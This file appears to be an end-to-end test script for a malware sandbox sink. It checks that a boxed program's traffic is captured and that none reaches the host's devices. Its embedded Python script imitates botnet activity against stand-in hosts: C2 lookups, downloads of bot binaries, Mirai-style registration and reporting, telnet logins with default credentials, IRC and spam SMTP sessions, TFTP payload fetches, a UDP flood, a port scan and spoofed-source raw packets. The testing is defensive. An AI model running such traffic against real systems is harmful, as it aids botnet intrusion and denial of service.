#!/bin/bash
# A program in a box talks to everybody and meets the sink; a capture of every device of the host, in which a
# packet of ours shows that it works, shows none of the program's.
BASE_PORT=10000
. "$(dirname "$0")/lib.sh"
need_root
for tool in ip tcpdump tshark python3 curl openssl bwrap; do
	[ -n "$(command -v $tool)" ] || skip "$tool is missing"
done
STAND=build/plain/program/tests/e2e/sink_stand
[ -x "$STAND" ] || make -s "$STAND" || fail "$STAND cannot be built"

# The host has a way out: a router that would pass on whatever came.
OUTSIDE=kansoku-out-$$
ip netns add $OUTSIDE || skip "network namespaces cannot be made here"
ip link add name uplink type veth peer name uplink netns $OUTSIDE || skip "veth cannot be made here"
sysctl -qw net.ipv6.conf.uplink.disable_ipv6=1 net.ipv4.ip_forward=1
ip netns exec $OUTSIDE sysctl -qw net.ipv6.conf.uplink.disable_ipv6=1
ip link set uplink up && ip -n $OUTSIDE link set uplink up && ip -n $OUTSIDE link set lo up
ip addr add 198.51.100.1/24 dev uplink && ip route add default via 198.51.100.2
ip -n $OUTSIDE addr add 198.51.100.2/24 dev uplink
ip -n $OUTSIDE route add local 203.0.113.0/24 dev lo

tcpdump -i any -s 4096 -B 32768 -U --immediate-mode -w "$WORK/host.pcap" ip or ip6 >"$WORK/host.log" 2>&1 &
HOST_CAPTURE=$!
ip netns exec $OUTSIDE tcpdump -i any -s 4096 -B 32768 -U --immediate-mode -w "$WORK/outside.pcap" ip or ip6 >"$WORK/outside.log" 2>&1 &
OUTSIDE_CAPTURE=$!
SERVERS="$HOST_CAPTURE $OUTSIDE_CAPTURE"
for log in host outside; do
	for _ in $(seq 50); do grep -qs listening "$WORK/$log.log" && break; sleep 0.1; done
done

cat >"$WORK/noise.py" <<'EOP'
import errno, socket, subprocess, sys
def tcp(host, port, *exchange):
    s = socket.create_connection((host, port), 3)
    s.settimeout(3)
    heard = b""
    for say, until in exchange:
        s.sendall(say)
        while until not in heard:
            more = s.recv(65536)
            if not more:
                break
            heard += more
    return heard
def must(what, ok):
    print(what, "as wanted" if ok else "NOT as wanted", flush=True)
a = socket.gethostbyname("c2.example")
must("a name", a.startswith("198.18.") or a.startswith("198.19."))
must("the same name", socket.gethostbyname("c2.example") == a and socket.gethostbyname("other.example") != a)
curl = lambda *how: subprocess.run(["curl", "-s", "-m", "5", *how], capture_output=True).stdout
must("a captured download", curl("http://dl.example/bins/bot.arm") == b"c" * 2000)
must("another download", curl("http://dl.example/bins/bot.sh").startswith(b"#!/bin/sh"))
must("TLS", b"It works" in curl("-k", "https://panel.example/gate.php"))
old = subprocess.run(["openssl", "s_client", "-connect", "panel.example:443", "-tls1", "-cipher", "AES128-SHA:@SECLEVEL=0", "-quiet"],
    input=b"GET /old HTTP/1.0\r\n\r\n", capture_output=True).stdout
must("TLS of 1999", b"exit 0" in old)
must("no port of it is closed", tcp("203.0.113.77", 48101, (b"\0\xcb\x00\x71\x09\0\x17\4root\5admin", b"")) == b"")
must("a bot's server", tcp("c2.example", 23, (b"\0\0\0\1\4mips\0\0", b"\0\0")) == b"\0\0")
must("telnet", b"XYZ: applet not found" in tcp("203.0.113.8", 23, (b"", b"login: "), (b"root\r\n", b"Password: "),
    (b"123\r\n", b"incorrect\r\nlogin: "), (b"root\r\n", b"Password: \r\n\r\nLogin incorrect\r\nlogin: Password: "),
    (b"vizxv\r\n", b"# "), (b"/bin/busybox XYZ\r\n", b"found")))
must("IRC", b" 366 " in tcp("irc.example", 6667, (b"NICK x\r\nUSER a b c d\r\nJOIN #bots key\r\n", b" 366 ")))
must("mail", b"queued" in tcp("203.0.113.25", 25, (b"", b"220"), (b"EHLO me\r\n", b"8BITMIME"), (b"MAIL FROM:<a@b.example>\r\n", b"Ok"),
    (b"RCPT TO:<v@victim.example>\r\n", b"Ok\r\n250"), (b"DATA\r\n", b"354"), (b"Subject: s\r\n\r\nb\r\n.\r\n", b"queued")))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(b"anything", ("203.0.113.9", 4000))
must("any UDP", u.recvfrom(100) == (b"anything", ("203.0.113.9", 4000)))
u.sendto(b"\0\1bins/bot.arm\0octet\0", ("203.0.113.69", 69))
fetched = b""
while True:
    said, who = u.recvfrom(2000)
    fetched += said[4:]
    u.sendto(b"\0\4" + said[2:4], who)
    if len(said) < 516:
        break
must("TFTP", fetched == b"c" * 2000)
for i in range(10000):
    u.sendto(b"x" * 512, ("203.0.113.50", 7777))
for i in range(400):
    t = socket.socket()
    t.setblocking(False)
    try:
        t.connect(("11.7.%d.%d" % (i // 200, i % 200 + 1), 2323))
    except BlockingIOError:
        pass
try:
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    import struct
    for i in range(600):
        h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, socket.inet_aton("11.9.9.%d" % (i % 200 + 1)), socket.inet_aton("203.0.113.60"))
        r.sendto(h + struct.pack("!HHHH", 53, 53, 8, 0), ("203.0.113.60", 0))
    print("forged packets went to the sink")
except PermissionError:
    print("forged packets were refused by the box")
print("done", flush=True)
EOP
head -c 2000 /dev/zero | tr '\0' c >"$WORK/captured"
timeout 60 "$STAND" box 40 "$WORK/sink.pcap" /bins/bot.arm "$WORK/captured" \
	/usr/bin/python3 -c "$(cat "$WORK/noise.py")" >"$WORK/found" 2>"$WORK/said"
status=$?
[ $status = 0 ] || { cat "$WORK/said"; fail "the sink ended with $status"; }
grep -q '^done' "$WORK/said" && ! grep -q NOT "$WORK/said" || { cat "$WORK/said"; fail "the program met another world"; }
wants() { grep -qE "$1" "$WORK/found" || { grep -v "^flow 11.7" "$WORK/found"; fail "not found: $1"; }; }
wants '^request http dl.example:80 url http://dl.example/bins/bot.arm count 1 served'
wants '^request http dl.example:80 url http://dl.example/bins/bot.sh count 1$'
wants '^request https panel.example:443 url https://panel.example/gate.php'
wants '^request tls panel.example:443 sni panel.example'
wants '^request mirai c2.example:23 join mips'
wants '^request mirai-report 203.0.113.77:48101 found 203.0.113.9:23 root:admin'
wants '^request telnet 203.0.113.8:23 credential root:vizxv'
wants '^request irc irc.example:6667 join #bots'
wants '^request smtp 203.0.113.25:25 mail RCPT TO:<v@victim.example>'
wants '^request tftp 203.0.113.69:69 url tftp://203.0.113.69/bins/bot.arm count 1 served'
wants '^name A c2.example count'
wants '^hello c2.example:23 mirai bytes 11 registers$'
wants '^hello dl.example:80 http bytes [0-9]+$'
wants '^scan 2323 transport 6 addresses 400$'
wants '^flood udp 203.0.113.50:7777 packets 10000 sources 0$'
wants '^packets [0-9]+ missed 0 '
grep -q 'forged packets went' "$WORK/said" && wants '^flood udp 203.0.113.60:53 packets 600 sources 200$'
[ "$(tshark -n -r "$WORK/sink.pcap" -Y 'dns.qry.name == "c2.example" && dns.flags.response == 0' 2>/dev/null | wc -l)" -ge 1 ] ||
	fail "the sink's capture lacks the question"

# Who is killed takes all along: the keeper, the sink, the box.
"$STAND" box 40 "$WORK/none.pcap" - /dev/null /bin/sleep 40 >/dev/null 2>"$WORK/killed" &
KILLED=$!
for _ in $(seq 100); do grep -qs '^ready' "$WORK/killed" && break; sleep 0.1; done
descendants() { local p; for p in $(pgrep -P "$1"); do echo "$p"; descendants "$p"; done; }
left=$(descendants $KILLED)
[ "$(echo "$left" | wc -l)" -ge 4 ] || fail "it has only these processes: $left"
kill -KILL $KILLED
wait $KILLED 2>/dev/null
for _ in $(seq 50); do
	alive=$(for p in $left; do [ -d "/proc/$p" ] && ! grep -q '^State:.*Z' "/proc/$p/status" 2>/dev/null && echo "$p"; done)
	[ -z "$alive" ] && break
	sleep 0.1
done
[ -z "$alive" ] || fail "still there after a kill: $(ps -o pid,comm -p $(echo $alive | tr ' ' ,))"

# The positive control: a packet that the host itself sends is in both captures, and nothing else is.
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"control", ("203.0.113.199", 9))'
sleep 0.5
for pid in $SERVERS; do kill -INT $pid; wait $pid; done
SERVERS=
for where in host outside; do
	capture_is_whole "$WORK/$where.log"
	control=$(tshark -n -r "$WORK/$where.pcap" -Y 'udp.dstport == 9 && ip.dst == 203.0.113.199' 2>/dev/null | wc -l)
	[ "$control" -ge 1 ] || fail "the capture of $where does not show the control packet"
	others=$(tshark -n -r "$WORK/$where.pcap" -Y '!(ip.dst == 203.0.113.199 || ip.src == 203.0.113.199 || icmp)' 2>/dev/null)
	[ -z "$others" ] || fail "packets left the box, on $where: $(echo "$others" | head -5)"
	icmp=$(tshark -n -r "$WORK/$where.pcap" -Y 'icmp && !(icmp && ip.dst == 198.51.100.1 && ip.src == 203.0.113.199)' 2>/dev/null)
	[ -z "$icmp" ] || fail "ICMP left the box, on $where: $(echo "$icmp" | head -5)"
done
echo "$(grep -c 'as wanted' "$WORK/said") conversations ended in the sink; of $(awk '/^packets/ {print $2}' "$WORK/found") packets none is on a device of the host"
